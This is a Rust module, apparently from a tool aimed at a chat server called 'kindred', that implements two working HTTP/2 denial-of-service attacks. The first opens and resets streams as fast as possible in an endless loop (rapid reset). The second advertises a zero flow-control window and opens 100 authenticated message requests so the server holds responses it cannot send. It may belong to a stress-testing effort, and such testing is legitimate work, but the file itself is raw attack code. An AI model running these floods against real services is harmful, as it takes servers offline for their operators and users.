//! Attacks by the frames of HTTP/2.

use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

use super::visitor::Visitor;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
/// Settings that leave everything as it is, and such as let nothing of any answer's body come.
const NO_SETTINGS: &[u8] = b"\0\0\0\x04\0\0\0\0\0";
const NO_WINDOW: &[u8] = b"\0\0\x06\x04\0\0\0\0\0\0\x04\0\0\0\0";
const HEADERS: u8 = 1;
/// The end of the headers and of the stream.
const WHOLE: u8 = 5;
/// As many as a connection may have open.
const STREAMS: u32 = 100;

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default().to_be_bytes();
    [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// A string of a header, shorter than 127 bytes.
fn text(value: &str) -> Vec<u8> {
    [&[u8::try_from(value.len()).unwrap_or_default()], value.as_bytes()].concat()
}

/// Opens and resets streams as fast as it can.
pub async fn reset_streams(mut stream: TcpStream) -> Option<()> {
    stream.write_all(&[PREFACE, NO_SETTINGS].concat()).await.ok()?;
    // GET / of http://kindred
    let head: &[u8] = b"\x82\x84\x86\x41\x07kindred";
    for number in (1u32..).step_by(2) {
        let begin = frame(HEADERS, WHOLE, number, head);
        let reset = frame(3, 0, number, &[0, 0, 0, 8]);
        stream.write_all(&[begin, reset].concat()).await.ok()?;
    }
    None
}

/// Asks for the latest messages of a room on a hundred streams, and lets them wait until the server has had enough.
pub async fn leave_pages_unread(me: &Visitor, room: &str) -> Option<()> {
    let mut stream = me.connect().await?;
    stream.write_all(&[PREFACE, NO_WINDOW].concat()).await.ok()?;
    let path = text(&format!("/api/messages/room/{room}/messages?limit=200"));
    let token = text(&format!("Bearer {}", me.token));
    // GET of http, then the path, the host and the session, each by the number of its name.
    let head = [b"\x82\x86\x04", &path[..], b"\x01", &text("kindred"), b"\x0f\x08", &token].concat();
    for number in (1u32..).step_by(2).take(usize::try_from(STREAMS).ok()?) {
        stream.write_all(&frame(HEADERS, WHOLE, number, &head)).await.ok()?;
    }
    let mut answers = [0; 4096];
    while stream.read(&mut answers).await.ok()? > 0 {}
    Some(())
}
